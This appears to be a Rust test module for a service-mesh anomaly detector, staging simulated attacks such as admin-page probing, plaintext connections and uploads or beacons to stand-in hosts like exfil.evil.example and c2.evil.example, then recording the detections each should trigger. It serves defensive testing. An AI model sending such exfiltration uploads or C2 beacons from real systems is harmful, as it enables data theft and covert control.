//! The attacks. Each leaves its count of lines on one edge inside one window, above the floor of its detection.

use std::net::{Ipv4Addr, SocketAddrV4};

use super::{Stage, insist};
use crate::mesh::{
    client::{self, Request, Way},
    error::MeshError,
    plan::{Edge, Planted, Side, detection},
    topology::Who,
};

/// A documentation address: nothing connects to it, a REGISTRY_ONLY sidecar only says that it was wanted.
const NOWHERE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
const NOWHERE_WEB: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 80);
const NOWHERE_TLS: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 43);
const PASTE: &str = "paste.evil.example";
const EXFIL: &str = "exfil.evil.example";
const C2: &str = "c2.evil.example";

pub(super) async fn denied_by_rule(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 60;
    for number in 0..count {
        let path = format!("/admin/keys/{number}");
        let request = stage.get(Who::Payments, &path).agent("python-requests/2.32.3");
        stage.call(Who::Thumbnailer, Who::Payments, request, 403).await?;
        stage.between(count).await;
    }
    let edge = stage.edge(Who::Thumbnailer, Who::Payments);
    stage.denials(
        "denied-by-rule",
        "a compromised thumbnailer walks through the admin pages of payments",
        edge,
        count,
        Some("ns[bank]-policy[deny-admin]-rule[0]"),
    );
    Ok(())
}

pub(super) async fn denied_by_none(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 50;
    for _ in 0..count {
        let request = stage.get(Who::Payments, "/v1/balances").agent("reports/0.9");
        stage.call(Who::Reports, Who::Payments, request, 403).await?;
        stage.between(count).await;
    }
    let edge = stage.edge(Who::Reports, Who::Payments);
    stage.denials(
        "denied-by-none",
        "reports asks payments for balances, which no ALLOW policy lets it",
        edge,
        count,
        None,
    );
    Ok(())
}

pub(super) async fn denied_grpc(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 40;
    for _ in 0..count {
        stage.grpc(Who::Recommender, "/shop.Orders/Export", "7").await?;
        stage.between(count).await;
    }
    let edge = stage.edge(Who::Recommender, Who::Orders);
    stage.denials(
        "denied-grpc",
        "recommender calls a gRPC method it may not; the lines say HTTP 200",
        edge,
        count,
        None,
    );
    Ok(())
}

pub(super) async fn denied_tcp(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 30;
    for _ in 0..count {
        stage.ledger(Who::Notebook, false).await?;
        stage.between(count).await;
    }
    let edge = stage.edge(Who::Notebook, Who::LedgerDb);
    stage.denials(
        "denied-tcp",
        "a notebook connects to the ledger's database; the lines say response code 0",
        edge,
        count,
        Some("ns[bank]-policy[ledger-no-analytics]-rule[0]"),
    );
    Ok(())
}

pub(super) async fn application_403(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 40;
    for _ in 0..count {
        let request = stage.get(Who::Orders, "/forbidden-by-app/invoices").agent("curl/8.9.1");
        stage.call(Who::Notebook, Who::Orders, request, 403).await?;
        stage.between(count).await;
    }
    let edge = stage.edge(Who::Notebook, Who::Orders);
    stage.plant(
        detection::HTTP_403_SPIKE,
        "application-403",
        "a notebook asks orders for invoices, which the program itself refuses",
        edge,
        count,
    );
    Ok(())
}

pub(super) async fn plaintext_to_strict(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 30;
    let topology = &stage.mesh.topology;
    let from = topology.outsider(6);
    let pod = SocketAddrV4::new(topology.pod(Who::Payments).ip, topology.ports.http);
    for _ in 0..count {
        let request = Request::get(&pod.to_string(), "/v1/balances").agent("curl/8.9.1");
        let status = client::http(Way::direct(from, pod), request).await?;
        insist(|| "plaintext to a STRICT port".to_owned(), status, 0)?;
        stage.between(count).await;
    }
    let edge = stage.edge_from(from, Who::Payments);
    stage.plant(
        detection::PLAINTEXT,
        "plaintext-to-strict",
        "a machine outside the mesh speaks plaintext to payments (STRICT) and is hung up on",
        edge,
        count,
    );
    Ok(())
}

pub(super) async fn plaintext_to_permissive(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 25;
    let topology = &stage.mesh.topology;
    let from = topology.outsider(7);
    let pod = SocketAddrV4::new(topology.pod(Who::LegacyAccounts).ip, topology.ports.http);
    for number in 0..count {
        let request =
            Request::get(&pod.to_string(), &format!("/accounts/{}", 9000 + number)).agent("Go-http-client/1.1");
        let status = client::http(Way::direct(from, pod), request).await?;
        insist(|| "plaintext to a PERMISSIVE port".to_owned(), status, 200)?;
        stage.between(count).await;
    }
    let edge = stage.edge_from(from, Who::LegacyAccounts);
    let what = "a machine outside the mesh reads accounts in plaintext, which legacy-accounts (PERMISSIVE) accepts";
    stage.plant(detection::PLAINTEXT, "plaintext-to-permissive", what, edge, count);
    if let Some(planted) = stage.played.planted.last_mut() {
        // The default formats carry neither TLS facts nor principals.
        planted.in_default_formats = false;
    }
    Ok(())
}

pub(super) async fn passthrough_http(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 15;
    let topology = &stage.mesh.topology;
    let to = topology.unregistered(1);
    let way = stage.mesh.through(Who::Thumbnailer, SocketAddrV4::new(to, topology.ports.http));
    for number in 0..count {
        let request = Request::new("POST", PASTE, &format!("/new/{number}")).agent("curl/8.9.1").body(512);
        insist(|| "an upload to an unregistered host".to_owned(), client::http(way, request).await?, 200)?;
        stage.between(count).await;
    }
    let edge = stage.egress(Who::Thumbnailer, Some(PASTE), to);
    stage.plant(
        detection::UNKNOWN_HOST,
        "passthrough-http",
        "thumbnailer uploads to a paste site that nobody registered",
        edge,
        count,
    );
    Ok(())
}

pub(super) async fn passthrough_tcp(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 10;
    let topology = &stage.mesh.topology;
    let to = topology.unregistered(2);
    let way = stage.mesh.through(Who::Notebook, SocketAddrV4::new(to, topology.ports.odd));
    for _ in 0..count {
        let got = client::tcp(way, b"beacon").await?;
        insist(|| "a connection to an unregistered address".to_owned(), got > 0, true)?;
        stage.between(count).await;
    }
    let edge = stage.egress(Who::Notebook, None, to);
    stage.plant(
        detection::UNKNOWN_HOST,
        "passthrough-tcp",
        "a notebook connects to an address that nobody registered; no name is known",
        edge,
        count,
    );
    Ok(())
}

pub(super) async fn blocked_http(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 15;
    let way = stage.mesh.through(Who::Batch, SocketAddrV4::new(NOWHERE_WEB, 80));
    for _ in 0..count {
        let request = Request::new("POST", EXFIL, "/drop").agent("curl/8.9.1").body(512);
        insist(|| "an upload that REGISTRY_ONLY blocks".to_owned(), client::http(way, request).await?, 502)?;
        stage.between(count).await;
    }
    let edge = stage.egress(Who::Batch, Some(EXFIL), NOWHERE_WEB);
    stage.plant(
        detection::UNKNOWN_HOST,
        "blocked-http",
        "a batch job (REGISTRY_ONLY) tries to upload to an unregistered host",
        edge,
        count,
    );
    Ok(())
}

/// By address, and by name under TLS.
pub(super) async fn black_hole(stage: &mut Stage<'_>) -> Result<(), MeshError> {
    let count = 10;
    let odd = stage.mesh.topology.ports.odd;
    let way = stage.mesh.through(Who::Batch, SocketAddrV4::new(NOWHERE, odd));
    let tls = stage.mesh.through(Who::Batch, SocketAddrV4::new(NOWHERE_TLS, 443));
    for _ in 0..count {
        let got = client::tcp(way, b"beacon").await?;
        insist(|| "a connection that REGISTRY_ONLY blocks".to_owned(), got, 0)?;
        client::refused_tls(tls, &stage.mesh.browser, C2).await?;
        stage.between(count).await;
    }
    let edge = stage.egress(Who::Batch, None, NOWHERE);
    stage.plant(
        detection::UNKNOWN_HOST,
        "black-hole-tcp",
        "a batch job (REGISTRY_ONLY) tries an unregistered address; no name is known",
        edge,
        count,
    );
    let edge = stage.egress(Who::Batch, Some(C2), NOWHERE_TLS);
    stage.plant(
        detection::UNKNOWN_HOST,
        "black-hole-tls",
        "a batch job (REGISTRY_ONLY) tries TLS to an unregistered name",
        edge,
        count,
    );
    Ok(())
}

impl Stage<'_> {
    fn denials(
        &mut self,
        name: &'static str,
        what: &'static str,
        edge: Edge,
        count: usize,
        policy: Option<&'static str>,
    ) {
        self.plant(detection::DENIED_SPIKE, name, what, edge, count);
        if let Some(planted) = self.played.planted.last_mut() {
            planted.policy = policy;
        }
    }

    fn plant(&mut self, detection: &'static str, name: &'static str, what: &'static str, edge: Edge, count: usize) {
        let side = if detection == detection::UNKNOWN_HOST { Side::Source } else { Side::Destination };
        self.played.planted.push(Planted {
            name,
            detection,
            what,
            edge,
            count,
            side,
            policy: None,
            in_default_formats: true,
        });
    }
}
